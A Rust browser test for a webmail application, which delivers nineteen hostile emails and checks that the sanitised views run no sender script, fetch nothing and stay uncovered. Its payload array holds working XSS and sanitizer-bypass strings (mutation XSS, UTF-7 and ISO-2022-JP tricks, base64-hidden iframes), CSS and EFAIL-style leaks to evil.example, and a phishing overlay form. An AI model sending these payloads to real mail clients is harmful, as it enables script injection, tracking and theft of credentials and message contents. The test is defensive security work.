//! Mail that wants to do harm, as it is really written: whole messages, through the front door and
//! the page of the message, parsed by the browser itself.

use serde_json::Value;

use crate::driver::{Browser, Kind};
use crate::place::Place;

/// Complains about everything in the frame's page that is not on the list, and about requests.
const LOOK: &str = r#"
const elements = new Set(("a abbr acronym address area article aside b bdi bdo big blockquote br " +
  "caption center cite code col colgroup data dd del details dfn div dl dt em figcaption " +
  "figure font footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li main map mark " +
  "nav ol p pre " +
  "q rp rt rtc ruby s samp section small span strike strong sub summary sup table tbody td " +
  "tfoot th thead time tr tt u ul var wbr").split(" "));
const attributes = new Set(("align alt bgcolor border cellpadding cellspacing cite color colspan " +
  "datetime dir face height href hreflang lang nowrap rel rowspan size span src start style " +
  "summary target title type valign width char charoff headers scope hspace vspace noshade " +
  "coords shape").split(" "));
const link = /^(https?:|mailto:|tel:)/i, picture = /^data:image\/(png|jpeg|gif|webp)[;,]/i;
const bad = [];
const head = [...document.head.children].map((one) => one.localName).join(" ");
if (head !== "meta meta title style") bad.push("head: " + head);
for (const one of document.body.querySelectorAll("*")) {
  const what = one.outerHTML.slice(0, 120);
  const isHtml = one.namespaceURI === "http://www.w3.org/1999/xhtml";
  if (!isHtml || !elements.has(one.localName)) bad.push("element " + what);
  for (const { name, value } of one.attributes) {
    if (!attributes.has(name)) bad.push(name + " of " + what);
    if (name === "src" && !picture.test(value)) bad.push("source " + what);
    if (["href", "cite"].includes(name) && !link.test(value)) bad.push("link " + what);
    const style = name === "style" ? value : "";
    const isBad = /url|image-set|expression|import|position|z-index|behavior|\\|\/\*/i.test(style);
    if (isBad) bad.push("style " + what);
  }
}
for (const entry of performance.getEntriesByType("resource")) bad.push("request " + entry.name);
return bad;
"#;

/// The first heading and the names below it are ours, and nothing is in front of them.
const HEAD_IS_SEEN: &str = "return [...document.querySelectorAll('body > h1, body > table td')] \
    .slice(0, 3).every((one) => { \
      const box = one.getBoundingClientRect(); \
      const top = document.elementFromPoint(box.left + 5, box.top + box.height / 2); \
      return one.contains(top); \
    }) && document.querySelector('h1').textContent.includes('Attack')";

/// Bodies of type `text/html` unless a header is in front; each says something honest, too.
const ATTACKS: [&str; 19] = [
    "<p>Honest<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">\
     <svg onload=\"document.title='pwned'\"><script>alert(1)</script></svg>",
    // Markup that becomes other markup when it is written and read again.
    "Honest<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 \
     onerror=document.title='pwned'&gt;\">",
    "Honest<svg></p><style><a id=\"</style><img src=1 onerror=document.title='pwned'>\"></svg>",
    "Honest<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "Honest<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>\
     <template><img src=x onerror=alert(1)></template><xmp>\
     <p title=\"</xmp><svg onload=alert(1)>\">",
    // Requests that tell the sender that it is read.
    "Honest<img src=\"https://evil.example/1\"><img srcset=\"https://evil.example/2 1x\">\
     <table background=\"https://evil.example/3\"><video poster=\"https://evil.example/4\">\
     <audio src=\"https://evil.example/5\"><link rel=prefetch href=\"https://evil.example/6\">\
     <input type=image src=\"https://evil.example/7\"><object data=\"https://evil.example/8\">\
     <embed src=\"https://evil.example/9\"><iframe src=\"https://evil.example/10\"></iframe>",
    "<style>@import 'https://evil.example/css'; body{background:url(https://evil.example/a)}\
     input[value^=a]{background:url(//evil.example/b)}</style>Honest\
     <p style=\"background:url(https://evil.example/c);background:u\\72l(//evil.example/d);\
     background-image:image-set('//evil.example/e' 1x);list-style:url(//evil.example/f)\">x",
    // Pages that go elsewhere, or that look like ours.
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"><base \
     href=\"https://evil.example/\">Honest <a href=\"/login\">log in</a>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;\
     background:#fff\">\
     Honest<form action=\"https://evil.example/\"><input name=password type=password>\
     <button formaction=\"javascript:alert(1)\">Log in</button></form></div>",
    "Honest<a href=\"java&#x09;script:alert(1)\">a</a><a href=\"&#14;javascript:alert(1)\">b</a>\
     <a href=\"data:text/html,<script>alert(1)</script>\">c</a><a href=\"vbscript:x\">d</a>\
     <a href=\"cid:x\">e</a><area href=\"javascript:x\"><map name=m><area href=blob:x></map>",
    // A picture of the message that is none.
    "Content-Type: multipart/related; boundary=r\n\n--r\nContent-Type: text/html\n\n\
     Honest<img src=\"cid:evil\"><img src=\"cid:evil2\">\
     <img src='data:image/svg+xml,<svg/onload=alert(1)>'>\
     \n--r\nContent-Type: image/svg+xml\nContent-ID: <evil>\n\n\
     <svg xmlns='http://www.w3.org/2000/svg' \
     onload='alert(1)'/>\n--r\nContent-Type: image/png\" onerror=\"alert(1)\n\
     Content-ID: <evil2>\n\nx\n--r--",
    // The secret part between two of the sender's (EFAIL).
    "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n\
     Honest<img src=\"https://evil.example/?\n--m\nContent-Type: text/plain\n\n\
     The secret plan\n--m\n\
     Content-Type: text/html\n\n\"><p>end\n--m--",
    // Letters that only become markup in another charset.
    "Content-Type: text/html; charset=utf-7\n\nHonest+ADw-script+AD4-document.title='pwned'\
     +ADw-/script+AD4APA-img src=x onerror=alert(1)+AD4-",
    "Content-Type: text/html\n\n<meta charset=utf-7>\
     Honest+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "Content-Type: text/html; charset=iso-2022-jp\n\nHonest<img alt=\"\u{1b}$B\" src=x \
     onerror=alert(1) \u{1b}(B\"><script>\u{1b}(Jalert(1)</script>",
    "Content-Type: multipart/alternative; boundary=a\n\n--a\nContent-Type: text/plain\n\nHonest\n\
     --a\n\
     Content-Type: multipart/related; boundary=r\n\n--r\nContent-Type: text/html\n\
     Content-Transfer-Encoding: base64\n\n\
     SG9uZXN0PGlmcmFtZSBzcmNkb2M9IjxzY3JpcHQ+cGFyZW50LmRvY3VtZW50LnRpdGxlPSdwd25lZCc8L3NjcmlwdD4i\n\
     PjwvaWZyYW1lPjxkZXRhaWxzIG9wZW4gb250b2dnbGU9YWxlcnQoMSk+\n--r--\n--a--",
    // Names and classes of our own pages, and a link that takes the window with it.
    "<div id=content class=banner><p name=q>Honest<a href=\"https://evil.example/\" target=_top \
     ping=\"https://evil.example/\">log in</a></div><img id=body name=cookie>",
    // What is drawn over what stands above it: on paper that is who wrote it.
    "Honest<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAA\
     ADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==\" width=900 height=600 \
     style=\"margin-top:-600px\">",
    // What is taken out leaves something that is read in another way.
    "Honest<a href=\"https://x.example/1\"><object><a href=\"https://x.example/2\" \
     title=\"</a><img src=x onerror=document.title='pwned'>\"><marquee><button><b><button>",
];

#[test]
fn mail_that_wants_to_do_harm_does_none() {
    let place = Place::open("5m");
    for (number, attack) in ATTACKS.iter().enumerate() {
        let head = if attack.starts_with("Content-Type:") {
            ""
        } else {
            "Content-Type: text/html; charset=utf-8\n\n"
        };
        let mail = format!(
            "From: Eve <eve@evil.example>\nTo: ann@example.org\nSubject: <b>Attack {number}\n\
             MIME-Version: 1.0\n{head}{attack}\n"
        );
        place.deliver("ann@example.org", &mail);
    }
    let browser = Browser::start(Kind::Desktop);
    place.enrol(&browser, "ann@example.org");
    browser.go(&place.url("/"));
    browser.wait_for(".list a");
    let links = "return [...document.querySelectorAll('.list a')].map((one) => one.href)";
    let links = browser.run(links, &[]);
    let links: Vec<&str> = links
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert_eq!(links.len(), ATTACKS.len());
    // The newest is the first; all are looked at, so that one sees who caught what.
    let found: Vec<String> = links
        .iter()
        .zip((0..links.len()).rev())
        .flat_map(|(link, number)| faults(&browser, link, number))
        .collect();
    assert!(found.is_empty(), "{found:#?}");
}

/// What is wrong with the pages of one mail.
fn faults(browser: &Browser, link: &str, number: usize) -> Vec<String> {
    browser.go(link);
    browser.wait_for("article.message");
    let mut bad = Vec::new();
    let title = browser.run("return document.title", &[]);
    if title.as_str() != Some(&format!("<b>Attack {number} · Example Mail")) {
        bad.push(format!("title {title}"));
    }
    let scripts = "return document.querySelectorAll('script:not([src^=\"/app.js\"])').length";
    if browser.run(scripts, &[]) != 0 {
        bad.push("a script of the sender's".to_owned());
    }
    browser.go(&format!("{link}/print"));
    browser.wait_text("Honest");
    if browser.run(HEAD_IS_SEEN, &[]) != Value::Bool(true) {
        bad.push("the head is covered on paper".to_owned());
    }
    browser.go(&format!("{link}/html"));
    browser.wait_text("Honest");
    let found = browser.run(LOOK, &[]);
    let found = found.as_array().unwrap().iter().filter_map(Value::as_str);
    bad.extend(found.map(str::to_owned));
    if !browser.address().starts_with(link) {
        bad.push(format!("it went to {}", browser.address()));
    }
    let named = |what: String| format!("attack {number}: {what}");
    bad.into_iter().map(named).collect()
}
